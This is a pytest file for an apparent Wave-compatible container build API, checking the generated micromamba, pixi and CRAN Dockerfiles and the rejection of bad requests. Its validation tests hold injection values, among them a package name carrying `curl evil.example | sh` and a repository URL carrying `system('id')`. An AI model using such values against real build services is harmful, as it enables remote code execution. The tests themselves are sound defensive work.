"""Wave's build templates (conda/micromamba:v2, conda/pixi:v1, cran/installr:v1), CRAN packages and
Wave's default condaOpts, from the bodies the real clients send. Expected recipes are written out
here from Wave's templates and its own tests (ContainerHelperTest, CranHelperTest), not computed."""

from __future__ import annotations

import pytest

from builds.models import Build
from tests.support.bodies import client_body
from tests.support.helpers import REGISTRY, post

pytestmark = pytest.mark.django_db

WAVE_V2_BWA_SALMON = '''\
FROM mambaorg/micromamba:2-amazon2023 AS build
USER root
COPY --chown=$MAMBA_USER:$MAMBA_USER conda.yml /tmp/conda.yml
# expose `which` at /usr/bin/which for R (bioconda) post-link scripts; the amazon2023 base image lacks it
RUN micromamba install -y -n base conda-forge::which \\
    && ln -sf "$MAMBA_ROOT_PREFIX/bin/which" /usr/bin/which \\
    && (micromamba install -y -n base -f /tmp/conda.yml > /tmp/mamba.log 2>&1 \\
    && cat /tmp/mamba.log \\
    || (cat /tmp/mamba.log >&2 && grep -q __cuda /tmp/mamba.log \\
        && CONDA_OVERRIDE_CUDA="99" micromamba install -y -n base -f /tmp/conda.yml)) \\
    && micromamba install -y -n base conda-forge::procps-ng \\
    && micromamba clean -a -y \\
    && micromamba env export --name base --explicit > environment.lock \\
    && echo ">> CONDA_LOCK_START" \\
    && cat environment.lock \\
    && echo "<< CONDA_LOCK_END"

FROM ubuntu:24.04 AS prod
ARG MAMBA_ROOT_PREFIX="/opt/conda"
ENV MAMBA_ROOT_PREFIX=$MAMBA_ROOT_PREFIX
COPY --from=build "$MAMBA_ROOT_PREFIX" "$MAMBA_ROOT_PREFIX"
USER root
ENV PATH="$MAMBA_ROOT_PREFIX/bin:$PATH"
'''

WAVE_PIXI = '''\
FROM public.cr.seqera.io/wave/pixi:0.61.0-noble AS build

COPY conda.yml /opt/wave/conda.yml
WORKDIR /opt/wave

RUN pixi init --import /opt/wave/conda.yml \\
    && pixi add conda-forge::which \\
    && pixi add conda-forge::procps-ng \\
    && pixi shell-hook > /shell-hook.sh \\
    && echo 'exec "$@"' >> /shell-hook.sh \\
    && echo ">> CONDA_LOCK_START" \\
    && cat /opt/wave/pixi.lock \\
    && echo "<< CONDA_LOCK_END"

FROM ubuntu:24.04 AS final

# copy the pixi environment in the final container
COPY --from=build /opt/wave/.pixi/envs/default /opt/wave/.pixi/envs/default
COPY --from=build /shell-hook.sh /shell-hook.sh

# set user and environment variables for Python compatibility
USER root
ENV USER=root

# set the entrypoint to the shell-hook script (activate the environment and run the command)
# no more pixi needed in the final container
ENTRYPOINT ["/bin/bash", "/shell-hook.sh"]

# Default command for "docker run"
CMD ["/bin/bash"]
'''


def build_of(api, body) -> Build:
    response = post(api, "/v1alpha2/container", body)
    assert response.status_code == 200, response.json()
    return Build.objects.get(pk=response.json()["buildId"])


def refused(api, body) -> str:
    response = post(api, "/v1alpha2/container", body)
    assert response.status_code == 400, response.json()
    return response.json()["message"]


def test_nextflows_micromamba_v2_request_gets_waves_dockerfile(api, settings):
    settings.WAVE_CONDA_BASE_IMAGE = "ubuntu:24.04"  # Wave's own base, to compare with Wave's text
    build = build_of(api, client_body("nextflow_micromamba_v2"))
    assert build.container_file == WAVE_V2_BWA_SALMON
    assert build.conda_file == "channels:\n- conda-forge\n- bioconda\ndependencies:\n- bioconda::bwa=0.7.15\n- bioconda::salmon=1.1.1\n"
    assert build.context == {}  # made by the builder backend, not the conda builder


def test_micromamba_v2_lays_the_environment_on_the_operators_base_image(api):
    """The clients' `baseImage: ubuntu:24.04` is wave-api's default: the operator's base applies."""
    build = build_of(api, client_body("nextflow_micromamba_v2"))
    assert f"\nFROM {REGISTRY}/library/debian:bookworm-slim AS prod\n" in build.container_file
    assert build.container_file.startswith("FROM mambaorg/micromamba:2-amazon2023 AS build\n")


def test_micromamba_v2_takes_the_users_own_images_packages_and_commands(api):
    body = client_body("nextflow_micromamba_v2")
    body["packages"]["condaOpts"] = {
        "mambaImage": f"{REGISTRY}/mamba:2.0.5", "baseImage": f"{REGISTRY}/library/busybox:latest",
        "basePackages": "", "commands": ["RUN echo one", "ENV TWO=2"],
    }
    recipe = build_of(api, body).container_file
    assert recipe.startswith(f"FROM {REGISTRY}/mamba:2.0.5 AS build\n")
    assert f"\nFROM {REGISTRY}/library/busybox:latest AS prod\n" in recipe
    assert "procps-ng" not in recipe and "CONDA_OVERRIDE_CUDA=\"99\" micromamba install -y -n base -f /tmp/conda.yml)) \\\n    && micromamba clean -a -y" in recipe
    assert recipe.endswith('ENV PATH="$MAMBA_ROOT_PREFIX/bin:$PATH"\nRUN echo one\nENV TWO=2\n')


def test_a_micromamba_1_image_is_replaced_by_the_v2_default_as_wave_does(api, settings):
    settings.WAVE_CONDA_MAMBA_IMAGE_V2 = f"{REGISTRY}/mirror/micromamba:2"
    body = client_body("nextflow_micromamba_v2")
    body["packages"]["condaOpts"]["mambaImage"] = "mambaorg/micromamba:1.5.8"
    assert build_of(api, body).container_file.startswith(f"FROM {REGISTRY}/mirror/micromamba:2 AS build\n")


def test_micromamba_v2_installs_a_lock_url_with_f(api):
    body = client_body("nextflow_micromamba_v2")
    body["packages"]["entries"] = ["https://example.org/envs/env.lock"]
    build = build_of(api, body)
    assert build.conda_file == "" and "COPY" not in build.container_file.split("AS prod")[0]
    assert (
        "RUN \\\n    micromamba install -y -n base conda-forge::which \\\n"
        '    && ln -sf "$MAMBA_ROOT_PREFIX/bin/which" /usr/bin/which \\\n'
        "    && (micromamba install -y -n base -c conda-forge -c bioconda -f https://example.org/envs/env.lock > /tmp/mamba.log 2>&1 \\\n"
    ) in build.container_file
    assert 'CONDA_OVERRIDE_CUDA="99" micromamba install -y -n base -c conda-forge -c bioconda -f https://example.org/envs/env.lock)) \\\n' in build.container_file


def test_wave_clis_pixi_request_gets_waves_dockerfile(api, settings):
    settings.WAVE_CONDA_BASE_IMAGE = "ubuntu:24.04"
    build = build_of(api, client_body("wavecli_pixi"))
    assert build.container_file == WAVE_PIXI
    assert "- bioconda::samtools=1.17\n" in build.conda_file


def test_pixi_refuses_a_lock_url_as_wave_does(api):
    body = client_body("wavecli_pixi")
    body["packages"]["entries"] = ["https://example.org/envs/env.lock"]
    assert refused(api, body) == "Conda lock file is not supported by 'conda/pixi:v1' template"


def test_wave_clis_cran_request_gets_waves_dockerfile(api):
    build = build_of(api, client_body("wavecli_cran"))
    assert build.container_file == (
        "FROM rocker/r-ver:4.4.1\n"
        "RUN \\\n"
        "    R -e \"options(repos = c(CRAN = 'https://cloud.r-project.org/'))\" \\\n"
        "    && apt-get update && apt-get install -y littler r-cran-docopt \\\n"
        "    && install2.r 'dplyr' BiocManager::install('GenomicRanges') \\\n"
        "    && rm -rf /tmp/downloaded_packages/ /tmp/*.rds \\\n"
        "    && rm -rf /var/lib/apt/lists/*\n"
        "USER root\n"
        'ENV R_LIBS_USER="/usr/local/lib/R/site-library"\n'
    )
    assert build.conda_file == ""


def test_cran_repositories_image_and_packages_as_in_waves_own_test(api):
    """CranHelperTest 'should create dockerfile for cran packages - complete test'."""
    body = client_body("wavecli_cran")
    body["packages"] = {
        "type": "CRAN", "entries": ["dplyr", "ggplot2", "bioc::GenomicRanges"], "channels": ["cran", "bioconductor"],
        "cranOpts": {"rImage": "rocker/r-ver:4.3.0", "basePackages": "build-essential"},
    }
    assert build_of(api, body).container_file == (
        "FROM rocker/r-ver:4.3.0\n"
        "RUN \\\n"
        "    R -e \"options(repos = c(CRAN = 'https://cloud.r-project.org/')); options(BioC_mirror = 'https://bioconductor.org')\" \\\n"
        "    && apt-get update && apt-get install -y build-essential \\\n"
        "    && install2.r 'dplyr' 'ggplot2' BiocManager::install('GenomicRanges') \\\n"
        "    && rm -rf /tmp/downloaded_packages/ /tmp/*.rds \\\n"
        "    && rm -rf /var/lib/apt/lists/*\n"
        "USER root\n"
        'ENV R_LIBS_USER="/usr/local/lib/R/site-library"\n'
    )


def test_the_cran_image_default_is_the_operators(api, settings):
    settings.WAVE_CRAN_IMAGE = f"{REGISTRY}/mirror/r-ver:4.4.1"
    assert build_of(api, client_body("wavecli_cran")).container_file.startswith(f"FROM {REGISTRY}/mirror/r-ver:4.4.1\n")


def test_cran_without_base_packages_and_with_a_repository_url(api):
    body = client_body("wavecli_cran")
    body["packages"]["cranOpts"] = {"basePackages": "", "commands": ["RUN R --version"]}
    body["packages"]["channels"] = ["https://cran.example.org/"]
    recipe = build_of(api, body).container_file
    assert "RUN \\\n    R -e \"options(repos = c(CRAN = 'https://cran.example.org/'))\" \\\n    && install2.r" in recipe
    assert "apt-get" not in recipe.split("install2.r")[0] and recipe.endswith("RUN R --version\n")


@pytest.mark.parametrize(
    "change, message",
    [
        ({"buildTemplate": "conda/micromamba:v2"}, "Package type 'CRAN' not supported by 'conda/micromamba:v2' build template"),
        ({"buildTemplate": "conda/pixi:v1"}, "Package type 'CRAN' not supported by 'conda/pixi:v1' build template"),
        ({"packages": {"type": "CRAN", "entries": ["dplyr'; curl evil.example | sh; '"]}}, "is not a CRAN package name"),
        ({"packages": {"type": "CRAN", "entries": ["dplyr"], "channels": ["https://x.org/');system('id"]}}, "is not a CRAN repository"),
        ({"packages": {"type": "CRAN", "environment": "bGlicmFyeShkcGx5cikK"}}, "of type CRAN needs 'entries'"),
        ({"packages": {"type": "CRAN", "entries": ["dplyr"], "cranOpts": {"rImage": "Not An Image"}}}, "Invalid image reference 'Not An Image'"),
        ({"packages": {"type": "CRAN", "entries": ["dplyr"], "cranOpts": {"basePackages": "littler\nRUN --mount=type=bind x"}}}, "must be one line of text"),
        ({"packages": {"type": "CRAN", "entries": ["dplyr"], "cranOpts": {"commands": "RUN id"}}}, "must be a list of strings, not RUN id"),
    ],
)


def test_bad_cran_requests_are_400_naming_the_value(api, change, message):
    body = {**client_body("wavecli_cran"), **change}
    assert message in refused(api, body)


@pytest.mark.parametrize(
    "change, message",
    [
        ({"buildTemplate": "cran/installr:v1"}, "Package type 'CONDA' not supported by 'cran/installr:v1' build template"),
        ({"pixiOpts": {"pixiImage": "https://bad/pixi"}}, "pixiImage"),
        ({"pixiOpts": {"baseImage": 7}}, "must be a string, not 7"),
        ({"pixiOpts": {"basePackages": "a\rb"}}, "must be one line of text"),
        ({"pixiOpts": "pixi"}, "pixiOpts"),
    ],
)


def test_bad_pixi_and_template_requests_are_400_naming_the_value(api, change, message):
    body = client_body("wavecli_pixi")
    if "buildTemplate" in change:
        body["buildTemplate"] = change["buildTemplate"]
    else:
        body["packages"]["pixiOpts"] = change["pixiOpts"]
    assert message in refused(api, body)


@pytest.mark.parametrize("client", ["nextflow_conda", "wavecli_conda"])
def test_the_clients_default_conda_opts_leave_the_operators_defaults(api, settings, client):
    settings.WAVE_CONDA_BASE_PACKAGES = "conda-forge::tini"
    build = build_of(api, client_body(client))
    assert build.context["builder"] == "conda"
    assert build.context["base_image"] == f"{REGISTRY}/library/debian:bookworm-slim"
    assert build.context["specs"] == ["bioconda::samtools=1.17", "conda-forge::tini"]
    assert build.context["channels"] == ["conda-forge", "bioconda"]


@pytest.mark.parametrize("client", ["nextflow_conda", "wavecli_conda"])
def test_conda_opts_other_than_waves_defaults_are_the_users(api, client):
    body = client_body(client)
    body["packages"]["condaOpts"] = {"mambaImage": "mambaorg/micromamba:1.5.10-noble", "baseImage": f"{REGISTRY}/library/busybox:latest", "basePackages": "conda-forge::zlib"}
    build = build_of(api, body)
    assert build.context["base_image"] == f"{REGISTRY}/library/busybox:latest"
    assert build.context["specs"] == ["bioconda::samtools=1.17", "conda-forge::zlib"]


def test_the_micromamba_v1_template_takes_the_operators_image_for_waves_default(api, settings):
    settings.WAVE_CONDA_MAMBA_IMAGE = f"{REGISTRY}/mirror/micromamba:1.5.10"
    body = {**client_body("nextflow_conda"), "buildTemplate": "conda/micromamba:v1"}
    assert build_of(api, body).container_file.startswith(f"FROM {REGISTRY}/mirror/micromamba:1.5.10\n")
